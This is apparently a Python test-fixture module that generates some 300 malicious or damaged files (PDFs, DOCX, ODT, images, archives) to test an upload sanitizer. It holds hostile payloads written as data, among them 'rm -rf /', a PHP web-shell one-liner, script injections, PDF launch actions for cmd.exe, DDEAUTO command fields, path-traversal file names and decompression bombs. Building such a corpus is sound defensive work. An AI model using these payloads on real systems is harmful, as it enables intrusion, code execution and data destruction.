"""Files as somebody who means harm, or a damaged telephone, would send them; made here, kept nowhere."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator

import pikepdf
from PIL import Image

SCRIPTS = (
    b"#!/bin/sh\nrm -rf /\n",
    b"<script>alert(1)</script>",
    b"<!DOCTYPE html><html><body onload=alert(1)></body></html>",
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    b"<?php system($_GET[0]); ?>",
    b"MZ\x90\x00" + bytes(60),
    b"\x7fELF\x02\x01\x01" + bytes(40),
    b"GIF89a\x01\x00\x01\x00\x00\x00\x00;",
    b"BM" + bytes(50),
    b"%!PS-Adobe-3.0\n(%stdin) (r) file\n",
    b"{\\rtf1\\ansi bonjour}",
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500),
    b"Rar!\x1a\x07\x00" + bytes(30),
    b"7z\xbc\xaf\x27\x1c" + bytes(30),
    b"\x1f\x8b\x08\x00" + bytes(30),
    bytes(64),
    b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(80),
    b"\x00\x00\x00\x18ftypavif\x00\x00\x00\x00mif1avif" + bytes(80),
    b"\x00\x00\x00\x18ftypisom\x00\x00\x00\x00isomiso2" + bytes(80),
    b"Une lettre, en texte simple.",
)
NAMES = (
    "photo.jpg", "lettre.pdf", "note.odt", "accord.docx", "😀.png", "../../etc/passwd", "..\\..\\boot.ini",
    "a" * 400 + ".pdf", "fichier.pdf\x00.exe", "CON", ".htaccess", "accord signé.pdf.js", "\u202efdp.exe", "",
)  # fmt: skip


def picture(
    fmt: str = "JPEG", size: tuple[int, int] = (48, 32), mode: str = "RGB", **options: object
) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, 0 if mode in ("1", "L", "P") else None).save(out, fmt, **options)
    return out.getvalue()


def located_photo() -> bytes:
    """A photo that says where it was taken, and that it must be turned."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "Canari & fils"
    exif.get_ifd(0x8825)[2] = (46.0, 34.0, 58.0)
    return picture(exif=exif, comment=b"chez Canari")


def pdf(**root: object) -> bytes:
    """A page, and whatever the root of the document is given."""
    document = pikepdf.new()
    document.add_blank_page(page_size=(200, 200))
    for name, value in root.items():
        document.Root[f"/{name}"] = value
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _action(kind: str, **more: object) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name(f"/{kind}"), **more)


def acting_pdfs() -> Iterator[bytes]:
    script = pikepdf.String("app.alert(1)")
    yield pdf(OpenAction=_action("JavaScript", JS=script))
    yield pdf(OpenAction=_action("Launch", F=pikepdf.String("cmd.exe")))
    yield pdf(AA=pikepdf.Dictionary(WC=_action("JavaScript", JS=script)))
    yield pdf(Names=pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(
        Names=pikepdf.Array([pikepdf.String("a"), _action("JavaScript", JS=script)]))))  # fmt: skip
    yield pdf(AcroForm=pikepdf.Dictionary(XFA=pikepdf.String("<xdp/>"), Fields=pikepdf.Array([])))
    yield pdf(OpenAction=_action("SubmitForm", F=pikepdf.String("https://exemple.invalid")))
    document = pikepdf.open(io.BytesIO(pdf()))
    document.attachments["virus.exe"] = b"MZ" + bytes(100)
    document.pages[0].Annots = pikepdf.Array([pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=pikepdf.Array([0, 0, 1, 1]),
        A=_action("Launch", F=pikepdf.String("x")))])  # fmt: skip
    out = io.BytesIO()
    document.save(out)
    yield out.getvalue()
    with pikepdf.open(io.BytesIO(pdf())) as closed:
        out = io.BytesIO()
        closed.save(out, encryption=pikepdf.Encryption(owner="maître", user="secret", R=6))
    yield out.getvalue()


def bomb_pdf() -> bytes:
    """A few kilobytes whose table of objects unpacks to half a gigabyte."""
    squeezer = zlib.compressobj(9)
    packed = b"".join([squeezer.compress(bytes(1 << 20)) for _each in range(64)] + [squeezer.flush()])
    head = b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d" % len(packed)
    return b"%PDF-1.7\n1 0 obj\n<<" + head + b">>\nstream\n" + packed + b"\nendstream\nendobj\n%%EOF"


def docx(**parts: bytes) -> bytes:
    """A DOCX; ``parts`` are added, ``/`` written ``__``."""
    kind = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    schema = b"http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    found = {
        "[Content_Types].xml": b'<Types><Override PartName="/word/document.xml" ContentType="'
        + kind
        + b'"/></Types>',
        "word/document.xml": b'<w:document xmlns:w="' + schema + b'"/>',
    }
    return packet({**found, **{name.replace("__", "/"): content for name, content in parts.items()}})


def odt(**parts: bytes) -> bytes:
    kind = b"application/vnd.oasis.opendocument.text"
    found = {
        "mimetype": kind,
        "META-INF/manifest.xml": b'<manifest media-type="' + kind + b'"/>',
        "content.xml": b'<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">'
        b"<office:body><office:text/></office:body></office:document-content>",
    }
    return packet({**found, **{name.replace("__", "/"): content for name, content in parts.items()}})


def packet(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for name, content in parts.items():
            how = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            made.writestr(zipfile.ZipInfo(name), content, how)
    return out.getvalue()


def packets() -> Iterator[bytes]:
    yield docx(**{"word__vbaProject.bin": b"macro"})
    yield docx(**{"word__embeddings__oleObject1.bin": b"MZ"})
    yield docx(**{"word__activeX__activeX1.xml": b"<x/>"})
    yield docx(**{"..__..__evil.xml": b"<x/>"})
    yield docx(**{"word__entities.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'})
    link = b'<Relationship Type="http://x/relationships/attachedTemplate" Target="http://x" TargetMode="External"/>'
    yield docx(**{"word___rels__settings.xml.rels": link})
    yield docx(**{"word__bomb.xml": bytes(80 << 20)})
    yield odt(**{"Basic__Standard__Module1.xml": b"<x/>"})
    yield odt(**{"Scripts__python__evil.py": b"import os"})
    yield odt(**{"Object_1__content.xml": b"<x/>"})
    yield odt(**{"evil.exe": b"MZ"})
    yield packet({"mimetype": b"application/epub+zip", "a.xml": b"<a/>"})
    yield packet({"classes.dex": b"dex", "AndroidManifest.xml": b"<a/>"})
    yield packet({})
    yield packet({f"a{n}.xml": b"" for n in range(1500)})


WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def worded(body: str) -> bytes:
    """A DOCX whose text is this."""
    return docx(
        **{
            "word__document.xml": f'<w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>'.encode()
        }
    )


def related(relation: str) -> bytes:
    """A DOCX whose text has this relationship."""
    rels = f'<Relationships xmlns="{PACKAGE}">{relation}</Relationships>'
    return docx(**{"word___rels__document.xml.rels": rels.encode()})


def fields(*runs: str) -> str:
    """A field whose instruction is cut in these runs."""
    said = "".join(f'<w:r><w:instrText xml:space="preserve">{run}</w:instrText></w:r>' for run in runs)
    return (
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{said}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>!</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def linked(body: str) -> bytes:
    """An ODT whose text is this."""
    spaces = "".join(
        f' xmlns:{prefix}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
        for prefix, name in (("office", "office"), ("text", "text"), ("draw", "drawing"))
    )
    content = (
        f'<office:document-content{spaces} xmlns:xlink="http://www.w3.org/1999/xlink"><office:body><office:text>'
        f"{body}</office:text></office:body></office:document-content>"
    )
    return odt(**{"content.xml": content.encode()})


def reaching_texts() -> Iterator[bytes]:
    """Texts that start a program, or read a file elsewhere, once they are opened."""
    template = (
        f"<Relationship Id='r1' Type='{OFFICE}/attachedTemplate' Target='http://exemple.invalid/a.dotm'"
        " TargetMode='External'/>"
    )
    yield related(template)
    yield related(template.replace("attachedTemplate", "attached&#84;emplate"))
    yield related(
        template.replace("<Relationship", "<p:Relationship").replace(" Id=", f" xmlns:p='{PACKAGE}'\n Id=")
    )
    for target in ("file:///C:/photo.png", "file://serveur/partage/photo.png", "\\\\serveur\\photo.png",
                   "https://exemple.invalid/suivi.png"):  # fmt: skip
        yield related(
            f'<Relationship Id="r1" Type="{OFFICE}/image" Target="{target}" TargetMode="External"/>'
        )
    yield related(f'<Relationship Id="r1" Type="{OFFICE}/image" Target="file:///C:/photo.png"/>')
    for target in (
        "javascript:alert(1)",
        "java&#10;script:alert(1)",
        "file://serveur/partage",
        "ms-word:ofe",
    ):
        yield related(
            f'<Relationship Id="r1" Type="{OFFICE}/hyperlink" Target="{target}" TargetMode="External"/>'
        )
    yield worded(fields('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'))
    yield worded(fields(" DDE", "AUTO", ' "cmd"'))
    yield worded(fields('ddeauto"cmd" "/k calc"'))
    yield worded("<w:fldSimple w:instr=' DDE excel liste.xls '/>")
    yield worded(fields("</w:instrText></w:r>" + fields("QUOTE 68 68 69") + "<w:r><w:instrText> cmd"))
    yield worded('<w:r><w:delInstrText>DDEAUTO "cmd"</w:delInstrText></w:r>')
    yield worded(fields('INCLUDEPICTURE "https://exemple.invalid/suivi.png" \\d'))
    yield worded(fields("INCLUDETEXT c:\\secret.docx"))
    yield worded('<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="file://serveur/photo.png"/>')
    yield docx(**{"word__settings.xml": f'<w:settings xmlns:w="{WORD}"><w:mailMerge/></w:settings>'.encode()})
    hidden = f'<w:document xmlns:w="{WORD}">{fields("DDEAUTO cmd")}</w:document>'
    yield docx(**{"word__media__text.png": hidden.encode()})
    yield docx(**{"word__media__text.jpg": hidden.encode("utf-16")})
    yield docx(**{"word__settings.xml": b"<w:settings>"})
    yield linked('<draw:image xlink:href="file:///C:/photo.png"/>')
    yield linked("<draw:image xlink:href='//serveur/partage/photo.png' xlink:type='simple'/>")
    for climbing in ("/etc/passwd", "../photo.png", "./../photo.png", "Pictures/../../photo.png", "%2e%2e/photo.png",
                     "..\\photo.png", " ../photo.png"):  # fmt: skip
        yield linked(f'<draw:image xlink:href="{climbing}"/>')
    yield linked('<draw:floating-frame xlink:href="https://exemple.invalid"/>')
    yield linked('<text:section-source xlink:href="https://exemple.invalid/a.odt"/>')
    yield linked('<office:dde-source office:dde-application="soffice"/>')
    yield linked('<text:a xlink:href="vnd.sun.star.script:Standard.Module1.Main">ici</text:a>')


def quiet_texts() -> Iterator[bytes]:
    """What an honest letter holds: page numbers, a summary, a formula, links, a picture of its own."""
    yield worded(fields(" PAGE ") + fields(" TOC \\o ") + fields(' HYPERLINK "https://exemple.test" '))
    yield worded(fields("=</w:instrText></w:r>" + fields("PAGE") + "<w:r><w:instrText> - 1"))
    yield worded(
        fields("IF </w:instrText></w:r>" + fields("MERGEFIELD ville") + '<w:r><w:instrText> = "Lyon"')
    )
    yield worded("<w:r><w:t>Le DDEAUTO et file:///C:/ sont des mots.</w:t></w:r>")
    yield related(
        f'<Relationship Id="r1" Type="{OFFICE}/hyperlink" Target="mailto:a@exemple.test" TargetMode="External"/>'
        f'<Relationship Id="r2" Type="{OFFICE}/image" Target="media/image1.png"/>'
    )
    yield linked(
        '<text:a xlink:type="simple" xlink:href="https://exemple.test">ici</text:a>'
        '<text:a xlink:href="#fin">fin</text:a>'
        '<draw:image xlink:href="Pictures/1.png"/>'
        '<draw:image xlink:href="./ObjectReplacements/Object%201"/>'
        '<draw:image xlink:href="Pictures/../Pictures/1.png"/>'
        '<draw:image xlink:href="..plan.png"/>'
    )


def reaching_pdfs() -> Iterator[bytes]:
    """PDFs whose links act."""
    for address in (
        "javascript:alert(1)",
        " Java\tScript:alert(1)",
        "file:///C:/secret.txt",
        "vbscript:x",
        "data:text/html,x",
    ):
        document = pikepdf.open(io.BytesIO(pdf()))
        link = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=pikepdf.Array([0, 0, 9, 9]),
            A=document.make_indirect(_action("URI", URI=pikepdf.String(address))),
            PA=_action("URI", URI=pikepdf.String(address)),
        )  # fmt: skip
        document.pages[0].Annots = pikepdf.Array([link])
        document.Root.OpenAction = _action("URI", URI=pikepdf.String(address))
        document.Root.URI = pikepdf.Dictionary(Base=pikepdf.String(address))
        out = io.BytesIO()
        document.save(out)
        yield out.getvalue()


def sized_png(width: int, height: int) -> bytes:
    """A PNG that only announces its size."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0" * 9))
        + chunk(b"IEND", b"")
    )


def sized_jpeg(width: int, height: int) -> bytes:
    """A JPEG whose header says another size than its pixels."""
    content = bytearray(picture())
    place = content.index(b"\xff\xc0")
    content[place + 5 : place + 9] = struct.pack(">HH", height, width)
    return bytes(content)


def goods() -> list[bytes]:
    """One honest file of every kind that may be kept."""
    return [picture("JPEG"), picture("PNG", mode="RGBA"), picture("WEBP"), pdf(), docx(), odt()]


def polyglots() -> Iterator[bytes]:
    for good in goods():
        for script in SCRIPTS[:6]:
            yield good + script
            yield script + good
    yield picture("JPEG") + docx(**{"word__vbaProject.bin": b"macro"})
    yield pdf() + docx()
    yield b"%PDF-1.4\n" + SCRIPTS[1]
    yield b"\xff\xd8\xff\xe0" + SCRIPTS[1]
    yield picture("JPEG", comment=SCRIPTS[1])


def damaged(number: int, seed: int = 20261129) -> Iterator[bytes]:
    """Honest files cut short, or with bytes changed."""
    chance = random.Random(seed)
    honest = goods()
    for turn in range(number):
        content = bytearray(honest[turn % len(honest)])
        if turn % 2:
            del content[chance.randrange(1, len(content)) :]
        else:
            for _each in range(8):
                content[chance.randrange(len(content))] = chance.randrange(256)
        yield bytes(content)


def hostile_files() -> list[tuple[str, bytes]]:
    """(claimed name, bytes) of at least 300 files."""
    found = [b"", b"\xff", b"%PDF-", b"PK\x03\x04", *SCRIPTS, *polyglots(), *acting_pdfs(), *packets()]
    found += [*reaching_texts(), *reaching_pdfs(), *quiet_texts()]
    found += [bomb_pdf(), located_photo(), *damaged(120)]
    found += [sized_png(60_000, 60_000), sized_png(30_000, 1000), sized_png(0, 5), sized_jpeg(65_000, 65_000)]
    found += [picture("PNG", mode=mode) for mode in ("1", "L", "P", "LA")]
    found += [picture("JPEG", mode="CMYK"), picture("JPEG", progressive=True)]
    chance = random.Random(3)
    found += [chance.randbytes(chance.randrange(1, 4000)) for _each in range(300 - len(found))]
    return [(NAMES[number % len(NAMES)], content) for number, content in enumerate(found)]
